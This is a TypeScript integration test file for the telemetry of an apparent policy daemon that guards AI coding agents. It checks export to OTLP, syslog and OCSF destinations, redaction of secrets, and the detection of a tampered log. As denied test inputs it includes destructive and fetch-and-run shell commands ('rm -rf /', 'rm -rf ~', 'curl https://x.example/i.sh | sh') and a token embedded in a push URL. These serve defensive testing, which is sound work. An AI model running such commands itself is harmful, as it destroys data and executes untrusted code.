/**
 * Telemetry (R8) against real receivers on loopback: an OTLP/HTTP endpoint receiving what the official
 * OpenTelemetry exporter sends, Debian's rsyslog (or a Node listener where it is not installed) over
 * UDP and TCP, and an OCSF file. What a security team relies on: events arrive within seconds, parse,
 * carry the receipt id, hold no secret in clear, and a dead collector never holds up a decision.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { runCli, shellAction, startTestDaemon, tempDir, type TestDaemon } from '../helpers/env.js';
import { startSyslogListener } from '../helpers/syslog.js';
import { startTelemetry, type TelemetryEvent } from '../../daemon/src/telemetry/index.js';
import { TelemetryConfigSchema } from '../../daemon/src/telemetry/config.js';
import { waitFor } from '../helpers/wait.js';

interface OtlpRecord {
  body: unknown;
  eventName?: string;
  severityNumber?: number;
  attributes: Record<string, unknown>;
  resource: Record<string, unknown>;
}

/** OTLP/JSON `AnyValue` to a plain value. */
function anyValue(value: Record<string, unknown>): unknown {
  if ('stringValue' in value) return value.stringValue;
  if ('intValue' in value) return Number(value.intValue);
  if ('doubleValue' in value) return value.doubleValue;
  if ('boolValue' in value) return value.boolValue;
  if ('arrayValue' in value)
    return ((value.arrayValue as { values?: Array<Record<string, unknown>> }).values ?? []).map(anyValue);
  return undefined;
}
const attributesOf = (list: Array<{ key: string; value: Record<string, unknown> }> = []) =>
  Object.fromEntries(list.map((a) => [a.key, anyValue(a.value)]));

/** A collector's OTLP/HTTP logs endpoint: parses each request as the OTLP JSON encoding. */
async function startOtlpReceiver(port = 0, status = 200) {
  const records: OtlpRecord[] = [];
  const requests: Array<{ contentType: string | undefined; path: string | undefined }> = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      requests.push({ contentType: req.headers['content-type'], path: req.url });
      const request = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
        resourceLogs: Array<{
          resource: { attributes: Array<{ key: string; value: Record<string, unknown> }> };
          scopeLogs: Array<{
            logRecords: Array<{
              body: Record<string, unknown>;
              eventName?: string;
              severityNumber?: number;
              attributes?: Array<{ key: string; value: Record<string, unknown> }>;
            }>;
          }>;
        }>;
      };
      for (const rl of request.resourceLogs)
        for (const sl of rl.scopeLogs)
          for (const r of sl.logRecords)
            records.push({
              body: anyValue(r.body),
              ...(r.eventName !== undefined ? { eventName: r.eventName } : {}),
              ...(r.severityNumber !== undefined ? { severityNumber: r.severityNumber } : {}),
              attributes: attributesOf(r.attributes),
              resource: attributesOf(rl.resource.attributes),
            });
      res.writeHead(status, { 'content-type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  const address = server.address();
  return {
    port: typeof address === 'object' && address ? address.port : 0,
    records,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** A port nothing listens on (taken, then released). */
async function freePort(): Promise<number> {
  const server = createTcpServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return typeof address === 'object' && address ? address.port : 0;
}

async function daemonWith(telemetry: unknown): Promise<TestDaemon & { cleanup(): void }> {
  const dir = tempDir();
  const home = join(dir.dir, 'aarm-home');
  mkdirSync(home, { recursive: true, mode: 0o700 });
  writeFileSync(join(home, 'telemetry.json'), JSON.stringify(telemetry));
  const t = await startTestDaemon({ root: dir.dir });
  mkdirSync(t.workspace, { recursive: true });
  return Object.assign(t, { cleanup: dir.cleanup });
}

const SECRET = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';

test('events reach an OTLP collector, syslog over UDP and TCP, and an OCSF file, each with its receipt id', async () => {
  const otlp = await startOtlpReceiver();
  const syslog = await startSyslogListener();
  const dir = tempDir();
  const ocsfFile = join(dir.dir, 'ocsf.jsonl');
  const t = await daemonWith({
    destinations: [
      { type: 'otlp', url: `http://127.0.0.1:${otlp.port}/v1/logs` },
      // the SIEM only wants what was not simply allowed
      {
        type: 'syslog',
        transport: 'udp',
        host: '127.0.0.1',
        port: syslog.udpPort,
        filter: { decisions: ['deny', 'step_up', 'defer'], events: ['decision', 'checkpoint'] },
      },
      { type: 'syslog', transport: 'tcp', host: '127.0.0.1', port: syslog.tcpPort, name: 'siem-tcp' },
      { type: 'ocsf', file: ocsfFile },
    ],
    redact: ['identity.human.git'],
    checkpointSeconds: 1,
  });
  try {
    const agent = await t.client({ session: 'tele' });
    const allowed = await agent.submit(shellAction('ls', t.workspace));
    await agent.reportOutcome(allowed.receiptId, { status: 'success', exitCode: 0 });
    const denied = await agent.submit(shellAction('rm -rf ~', t.workspace));
    const withSecret = await agent.submit(
      shellAction(`git push https://x:${SECRET}@github.com/acme/app.git`, t.workspace),
    );
    assert.equal(denied.verdict, 'deny');
    // Two more denials: the agent keeps pushing against policy, a drift finding (Detection Finding).
    await agent.submit(shellAction('rm -rf /', t.workspace));
    await agent.submit(shellAction('curl https://x.example/i.sh | sh', t.workspace));
    const ids = [allowed.receiptId, denied.receiptId, withSecret.receiptId];

    // OTLP: every receipt, as the official exporter encodes it, with the OCSF event as the body.
    await waitFor(() => ids.every((id) => otlp.records.some((r) => r.attributes['aarm.receipt.id'] === id)), {
      timeoutMs: 10_000,
      what: 'the receipts at the OTLP receiver',
    });
    assert.equal(otlp.requests[0]?.contentType, 'application/json');
    assert.equal(otlp.requests[0]?.path, '/v1/logs');
    const deniedRecord = otlp.records.find((r) => r.attributes['aarm.receipt.id'] === denied.receiptId)!;
    assert.equal(deniedRecord.resource['service.name'], 'aarm-daemon');
    assert.equal(deniedRecord.eventName, 'aarm.receipt');
    assert.equal(deniedRecord.attributes['aarm.decision'], 'deny');
    assert.ok((deniedRecord.severityNumber ?? 0) >= 17, 'a critical deny is logged as ERROR or worse');
    const ocsf = JSON.parse(String(deniedRecord.body)) as {
      class_uid: number;
      metadata: { uid: string; product: { name: string } };
      disposition_id: number;
    };
    assert.equal(ocsf.class_uid, 6003);
    assert.equal(ocsf.metadata.uid, denied.receiptId);
    assert.equal(ocsf.metadata.product.name, 'AARM for coding agents');
    assert.equal(ocsf.disposition_id, 2, 'Blocked');
    const drift = await waitFor(() => otlp.records.find((r) => r.eventName === 'aarm.drift'), {
      timeoutMs: 5000,
      what: 'a drift finding at the OTLP receiver',
    });
    assert.equal(drift.attributes['aarm.drift.signal'], 'repeated-denials');
    const finding = JSON.parse(String(drift.body)) as { class_uid: number; finding_info: { title: string } };
    assert.equal(finding.class_uid, 2004);
    assert.match(finding.finding_info.title, /3 actions of the session were denied/);
    await waitFor(() => otlp.records.some((r) => r.eventName === 'aarm.checkpoint'), {
      timeoutMs: 5000,
      what: 'a signed checkpoint at the OTLP receiver',
    });

    // Syslog: RFC 5424 with the receipt in structured data and a CEF payload naming it too.
    const fromSyslog = await waitFor(
      () => {
        const all = syslog.messages();
        return all.some((m) => m.includes(`externalId=${withSecret.receiptId}`)) ? all : undefined;
      },
      { timeoutMs: 10_000, what: `the receipts at ${syslog.kind} syslog` },
    );
    const pattern =
      /^<(\d+)>1 (\S+) (\S+) aarm (\d+) (\S+) \[aarm@32473 receipt="([^"]+)"[^\]]*\] CEF:0\|AARM\|aarm\|[^|]+\|([^|]+)\|([^|]+)\|(\d+)\|(.*)$/;
    for (const message of fromSyslog) assert.match(message, pattern);
    const deniedLines = fromSyslog.filter((m) => m.includes(`receipt="${denied.receiptId}"`));
    // once over UDP (its filter wants denials) and once over TCP
    assert.equal(deniedLines.length, 2, fromSyslog.join('\n'));
    const [, pri, , , , msgid, , signature, , severity, extension] = pattern.exec(deniedLines[0]!)!;
    assert.equal(Number(pri) >> 3, 13, 'facility 13 (log audit)');
    assert.equal(msgid, 'action');
    assert.equal(signature, 'destroy-root-or-home');
    assert.equal(severity, '10');
    assert.match(extension!, new RegExp(`externalId=${denied.receiptId}.* act=deny`));
    // the allowed `ls` went over TCP only
    assert.equal(fromSyslog.filter((m) => m.includes(`receipt="${allowed.receiptId}"`)).length, 1);

    // The OCSF file: one event per line.
    await waitFor(() => readFileSync(ocsfFile, 'utf8').includes(withSecret.receiptId), {
      timeoutMs: 5000,
      what: 'the OCSF file',
    });
    const events = readFileSync(ocsfFile, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { metadata: { uid: string }; class_uid: number });
    assert.deepEqual(
      ids.map((id) => events.some((e) => e.metadata.uid === id)),
      [true, true, true],
    );

    // T9: the token in the URL left as a digest, everywhere.
    const everything = [
      JSON.stringify(otlp.records),
      syslog.messages().join('\n'),
      readFileSync(ocsfFile, 'utf8'),
    ].join('\n');
    assert.ok(!everything.includes(SECRET), 'the secret never leaves in clear');
    assert.match(everything, /\[redacted sha256:[0-9a-f]{64} \d+ bytes\]/);

    const status = JSON.parse(
      (await runCli(['status', '--json'], { env: { AARM_HOME: t.homeDir } })).stdout,
    ) as { telemetry: { destinations: Array<{ name: string; sent: number; dropped: number }> } };
    assert.equal(status.telemetry.destinations.length, 4);
    assert.ok(status.telemetry.destinations.every((d) => d.sent > 0 && d.dropped === 0));
    assert.ok(status.telemetry.destinations.some((d) => d.name === 'siem-tcp'));
  } finally {
    await t.close();
    await otlp.close();
    await syslog.close();
    t.cleanup();
    dir.cleanup();
  }
});

test('a dead collector: every decision is answered, the buffer stays bounded, drops are counted, delivery resumes', async () => {
  const port = await freePort();
  const t = await daemonWith({
    destinations: [{ type: 'otlp', url: `http://127.0.0.1:${port}/v1/logs`, name: 'down' }],
    bufferEvents: 10,
  });
  let otlp: Awaited<ReturnType<typeof startOtlpReceiver>> | undefined;
  try {
    const agent = await t.client({ session: 'dead' });
    const answered = [];
    for (let i = 0; i < 40; i++) answered.push(await agent.submit(shellAction(`echo ${i}`, t.workspace)));
    assert.equal(answered.length, 40);
    const stats = async () =>
      (
        JSON.parse((await runCli(['status', '--json'], { env: { AARM_HOME: t.homeDir } })).stdout) as {
          telemetry: {
            destinations: Array<{ sent: number; queued: number; dropped: number; failures: number }>;
          };
        }
      ).telemetry.destinations[0]!;
    const down = await stats();
    assert.equal(down.sent, 0);
    assert.ok(down.queued <= 10, `queued ${down.queued}`);
    assert.ok(down.dropped >= 30, `dropped ${down.dropped}`);

    // The collector comes back on the same port: what is still buffered arrives.
    otlp = await startOtlpReceiver(port);
    const receiver = otlp;
    await waitFor(() => receiver.records.length > 0, {
      timeoutMs: 40_000,
      what: 'delivery after the collector came back',
    });
    const after = await agent.submit(shellAction('echo back', t.workspace));
    await waitFor(() => receiver.records.some((r) => r.attributes['aarm.receipt.id'] === after.receiptId), {
      timeoutMs: 10_000,
      what: 'a new receipt at the collector',
    });
    // (The exporter's own retries may have carried the first batch over the gap: no failure counted then.)
    const up = await stats();
    assert.ok(up.sent > 0 && up.dropped === down.dropped, JSON.stringify(up));
  } finally {
    await t.close();
    await otlp?.close();
    t.cleanup();
  }
});

test('a broken telemetry.json is reported, and the daemon decides as always', async () => {
  const t = await daemonWith({ destinations: [{ type: 'otlp', url: 'not a url' }] });
  try {
    const agent = await t.client();
    assert.equal((await agent.submit(shellAction('ls', t.workspace))).verdict, 'allow');
    const status = await runCli(['status'], { env: { AARM_HOME: t.homeDir } });
    assert.match(status.stdout, /TELEMETRY NOT STARTED: .*telemetry\.json: destinations\.0\.url: /);
  } finally {
    await t.close();
    t.cleanup();
  }
});

test('batch export as OTLP, CEF and OCSF, filtered; signed checkpoints catch a log cut after they were sent', async () => {
  const dir = tempDir();
  const t = await startTestDaemon({ root: dir.dir });
  mkdirSync(t.workspace, { recursive: true });
  const env = { env: { AARM_HOME: t.homeDir } };
  const file = (name: string) => join(dir.dir, name);
  try {
    const agent = await t.client({ session: 'batch' });
    const ids: string[] = [];
    for (const command of ['ls', 'rm -rf ~', 'git status', 'npm test'])
      ids.push((await agent.submit(shellAction(command, t.workspace))).receiptId);
    await t.close();

    // OTLP/JSON: one ExportLogsServiceRequest per line, the receipts and then a checkpoint.
    const otlp = await runCli(['export', '--all', '--format', 'otlp', '--out', file('all.otlp')], env);
    assert.equal(otlp.code, 0, otlp.stderr);
    assert.match(otlp.stdout, /exported 4 receipt\(s\) as otlp events, and a signed checkpoint/);
    const requests = readFileSync(file('all.otlp'), 'utf8')
      .trim()
      .split('\n')
      .map(
        (line) =>
          JSON.parse(line) as {
            resourceLogs: Array<{
              scopeLogs: Array<{
                logRecords: Array<{
                  eventName: string;
                  attributes: Array<{ key: string; value: { stringValue?: string } }>;
                }>;
              }>;
            }>;
          },
      );
    const records = requests.flatMap((r) =>
      r.resourceLogs.flatMap((rl) => rl.scopeLogs.flatMap((sl) => sl.logRecords)),
    );
    const receiptIdOf = (r: (typeof records)[number]) =>
      r.attributes.find((a) => a.key === 'aarm.receipt.id')?.value.stringValue;
    assert.deepEqual(records.slice(0, 4).map(receiptIdOf), ids);
    assert.equal(records.at(-1)?.eventName, 'aarm.checkpoint');

    // CEF, only what was denied (and the checkpoint).
    const cef = await runCli(
      ['export', '--all', '--format', 'cef', '--decisions', 'deny', '--out', file('deny.cef')],
      env,
    );
    assert.equal(cef.code, 0, cef.stderr);
    const lines = readFileSync(file('deny.cef'), 'utf8').trim().split('\n');
    assert.equal(lines.length, 2);
    assert.match(
      lines[0]!,
      new RegExp(
        `^CEF:0\\|AARM\\|aarm\\|[^|]+\\|destroy-root-or-home\\|deny shell exec\\|10\\|.*externalId=${ids[1]}`,
      ),
    );
    assert.match(lines[1]!, /\|checkpoint\|.* cat=checkpoint /);

    // OCSF, filtered by an identity nobody has: only the checkpoint is left.
    const ocsf = await runCli(
      ['export', '--all', '--format', 'ocsf', '--identities', 'mallory', '--out', file('none.json')],
      env,
    );
    assert.equal(ocsf.code, 0, ocsf.stderr);
    assert.deepEqual(
      (JSON.parse(readFileSync(file('none.json'), 'utf8')) as Array<{ class_uid: number }>).map(
        (e) => e.class_uid,
      ),
      [1008],
    );
    const bad = await runCli(
      ['export', '--all', '--format', 'cef', '--decisions', 'maybe', '--out', file('x')],
      env,
    );
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--decisions\.0: /);

    // The bundle agrees with every checkpoint the "collector" kept, in each format.
    assert.equal((await runCli(['export', '--all', '--out', file('bundle.jsonl')], env)).code, 0);
    for (const kept of ['all.otlp', 'deny.cef', 'none.json']) {
      const verified = await runCli(['verify', file('bundle.jsonl'), '--checkpoints', file(kept)], env);
      assert.equal(verified.code, 0, verified.stderr);
      assert.match(verified.stdout, /checkpoints: 1 of 1 match the chain; the newest is of record 4/);
    }

    // A central file holds every machine's checkpoints: another machine's (another key) are set aside.
    const other = tempDir();
    const otherDaemon = await startTestDaemon({ root: other.dir });
    mkdirSync(otherDaemon.workspace, { recursive: true });
    try {
      await (await otherDaemon.client()).submit(shellAction('ls', otherDaemon.workspace));
      await otherDaemon.close();
      const otherEnv = { env: { AARM_HOME: otherDaemon.homeDir } };
      assert.equal(
        (await runCli(['export', '--all', '--format', 'otlp', '--out', file('other.otlp')], otherEnv)).code,
        0,
      );
      writeFileSync(
        file('central.otlp'),
        readFileSync(file('all.otlp'), 'utf8') + readFileSync(file('other.otlp'), 'utf8'),
      );
      const mixed = await runCli(
        ['verify', file('bundle.jsonl'), '--checkpoints', file('central.otlp')],
        env,
      );
      assert.equal(mixed.code, 0, mixed.stderr);
      assert.match(
        mixed.stdout,
        /checkpoints: 1 of 1 match the chain; .*; 1 of other keys \(other machines\) ignored/,
      );
      const onlyOthers = await runCli(
        ['verify', file('bundle.jsonl'), '--checkpoints', file('other.otlp')],
        env,
      );
      assert.equal(onlyOthers.code, 1);
      assert.match(onlyOthers.stderr, /none of the 1 checkpoints is signed by this chain's keys/);
    } finally {
      other.cleanup();
    }

    // Someone with write access cuts the last two records and exports again: the new bundle is
    // self-consistent, but the checkpoint the collector already holds names record 4.
    const db = new Database(join(t.homeDir, 'receipts.db'));
    db.exec('DROP TRIGGER receipts_no_delete; DELETE FROM receipts WHERE seq > 2;');
    db.close();
    assert.equal((await runCli(['export', '--all', '--out', file('cut.jsonl')], env)).code, 0);
    assert.equal(
      (await runCli(['verify', file('cut.jsonl')], env)).code,
      0,
      'the cut bundle verifies on its own',
    );
    const caught = await runCli(['verify', file('cut.jsonl'), '--checkpoints', file('all.otlp')], env);
    assert.equal(caught.code, 1);
    assert.match(
      caught.stderr,
      /the chain ends at record 2, but on .* the collector received a checkpoint of record 4: the tail was cut/,
    );

    // A forged checkpoint is not evidence.
    const forged = readFileSync(file('deny.cef'), 'utf8').replace(/ cs6=[^ \n]+\n$/, ' cs6=AAAA\n');
    writeFileSync(file('forged.cef'), forged);
    const refused = await runCli(['verify', file('bundle.jsonl'), '--checkpoints', file('forged.cef')], env);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /is not signed by a trusted key/);
  } finally {
    await t.close().catch(() => {});
    dir.cleanup();
  }
});

test('syslog over TLS (RFC 5425): delivered to a server whose certificate the CA file vouches for, refused otherwise', async () => {
  const dir = tempDir();
  const key = join(dir.dir, 'key.pem');
  const cert = join(dir.dir, 'cert.pem');
  const made = spawnSync('openssl', [
    'req',
    '-x509',
    '-newkey',
    'ec',
    '-pkeyopt',
    'ec_paramgen_curve:P-256',
    '-nodes',
    '-days',
    '1',
    '-subj',
    '/CN=siem.test',
    '-addext',
    'subjectAltName=IP:127.0.0.1',
    '-keyout',
    key,
    '-out',
    cert,
  ]);
  assert.equal(made.status, 0, made.stderr.toString());
  // A TLS syslog receiver: octet-counted frames, `LEN SP MSG`.
  const messages: string[] = [];
  const server = createTlsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (socket) => {
    let pending = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      for (;;) {
        const space = pending.indexOf(0x20);
        if (space < 0) break;
        const length = Number(pending.subarray(0, space).toString());
        if (pending.length < space + 1 + length) break;
        messages.push(pending.subarray(space + 1, space + 1 + length).toString('utf8'));
        pending = pending.subarray(space + 1 + length);
      }
    });
    socket.on('error', () => {});
  });
  server.on('tlsClientError', () => {}); // the untrusting destination's refused handshake
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  const t = await daemonWith({
    destinations: [
      { type: 'syslog', transport: 'tls', host: '127.0.0.1', port, ca: cert, name: 'trusted' },
      // the system's CAs do not vouch for a self-signed certificate: nothing may be sent
      {
        type: 'syslog',
        transport: 'tls',
        host: '127.0.0.1',
        port,
        name: 'untrusted',
        filter: { events: ['outcome'] },
      },
    ],
  });
  try {
    const agent = await t.client();
    const decided = await agent.submit(shellAction('ls', t.workspace));
    await agent.reportOutcome(decided.receiptId, { status: 'success', exitCode: 0 });
    await waitFor(() => messages.some((m) => m.includes(`receipt="${decided.receiptId}"`)), {
      timeoutMs: 10_000,
      what: 'the receipt over TLS',
    });
    assert.match(messages[0]!, /^<\d+>1 \S+ \S+ aarm \d+ \S+ \[aarm@32473 receipt="/);
    const stats = async () =>
      (
        JSON.parse((await runCli(['status', '--json'], { env: { AARM_HOME: t.homeDir } })).stdout) as {
          telemetry: {
            destinations: Array<{ name: string; sent: number; failures: number; lastError?: string }>;
          };
        }
      ).telemetry.destinations;
    const untrusted = await waitFor(
      async () => (await stats()).find((d) => d.name === 'untrusted' && d.failures > 0),
      { timeoutMs: 10_000, what: 'the untrusted destination to fail' },
    );
    assert.equal(untrusted.sent, 0);
    assert.match(untrusted.lastError ?? '', /certificate/i);
    // the outcome went out once: through the trusted destination only
    await waitFor(() => messages.some((m) => / outcome \[aarm@32473 /.test(m)), {
      timeoutMs: 5000,
      what: 'the outcome',
    });
    assert.equal(messages.filter((m) => / outcome \[aarm@32473 /.test(m)).length, 1);
  } finally {
    await t.close();
    await new Promise<void>((resolve) => server.close(() => resolve()));
    t.cleanup();
    dir.cleanup();
  }
});

test('a collector that refuses a batch (HTTP 400): dropped and counted, not retried forever', async () => {
  const otlp = await startOtlpReceiver(0, 400);
  const t = await daemonWith({
    destinations: [{ type: 'otlp', url: `http://127.0.0.1:${otlp.port}/v1/logs` }],
  });
  try {
    const agent = await t.client();
    for (const command of ['ls', 'pwd', 'whoami']) await agent.submit(shellAction(command, t.workspace));
    const stats = await waitFor(
      async () => {
        const status = JSON.parse(
          (await runCli(['status', '--json'], { env: { AARM_HOME: t.homeDir } })).stdout,
        ) as {
          telemetry: {
            destinations: Array<{ dropped: number; queued: number; failures: number; lastError?: string }>;
          };
        };
        const d = status.telemetry.destinations[0]!;
        return d.dropped >= 3 && d.queued === 0 ? d : undefined;
      },
      { timeoutMs: 10_000, what: 'the refused batch to be dropped' },
    );
    assert.match(stats.lastError ?? '', /refused the batch \(HTTP 400\)/);
    assert.ok(otlp.requests.length >= 1);
  } finally {
    await t.close();
    await otlp.close();
    t.cleanup();
  }
});

test('the daemon hears of every event its telemetry worker took, even when no destination wanted one', async () => {
  const dir = tempDir();
  const file = join(dir.dir, 'drift.jsonl');
  // A destination that wants drift only: for 14,000 receipts none of its counters move.
  const config = TelemetryConfigSchema.parse({
    destinations: [{ type: 'ocsf', file, filter: { events: ['drift'] } }],
  });
  const telemetry = startTelemetry(config, { version: '0', hostname: 'h', pid: 1 }, () => {});
  try {
    const receipt = {
      type: 'receipt',
      record: { body: {}, canonical: '{"kind":"outcome"}', sig: 's', hash: 'h' },
    };
    for (let chunk = 0; chunk < 14; chunk++) {
      for (let i = 0; i < 1000; i++) telemetry.publish(receipt as unknown as TelemetryEvent);
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
    telemetry.publish({
      type: 'drift',
      finding: {
        uid: 'rcpt_x/repeated-denials',
        signal: 'repeated-denials',
        title: 'denied',
        detail: 'd',
        risk: 'medium',
        session: 's',
        receiptId: 'rcpt_x',
        time: '2026-11-26T01:00:00.000Z',
      },
    });
    await waitFor(() => existsSync(file) && readFileSync(file, 'utf8').includes('rcpt_x'), {
      timeoutMs: 5000,
      what: 'the drift finding after 14,000 filtered-out receipts',
    });
    assert.equal((await telemetry.stats())[0]!.dropped, 0);
  } finally {
    await telemetry.close();
    dir.cleanup();
  }
});
